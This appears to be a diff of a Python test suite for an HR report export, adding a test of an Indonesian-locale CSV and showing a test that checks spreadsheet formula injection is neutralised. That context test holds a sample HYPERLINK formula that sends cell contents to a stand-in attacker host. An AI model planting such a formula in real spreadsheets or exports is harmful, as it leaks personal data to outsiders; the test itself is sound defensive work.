@@ -242,6 +242,15 @@ async def test_xlsx_has_the_summary_and_everyone_below_target(client, hr, ledger
     assert people_sheet["G5"].number_format == "#,##0.00"
 
 
+async def test_csv_is_the_summary_for_excel_in_an_indonesian_locale(client, hr, ledger):
+    resp = await client.get(REPORT, params={"year": 2026, "format": "csv"}, headers=hr.headers)
+    assert resp.status_code == 200
+    assert 'filename="kepatuhan-jp-2026.csv"' in resp.headers["content-disposition"]
+    lines = resp.content.decode("utf-8-sig").split("\r\n")
+    assert lines[0].startswith("Unit;Kode;PNS;PNS capai target;PNS %;PPPK;")
+    assert lines[1].startswith("Pemerintah Kota Padang Panjang;PEMKOT-PPJ;6;2;33,33;")
+
+
 async def test_xlsx_writes_typed_text_as_text_never_as_a_formula(client, hr, unit):
     link = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'
     await make_person(unit["id"], link, nip="199001012015031001", jabatan="=1+2")
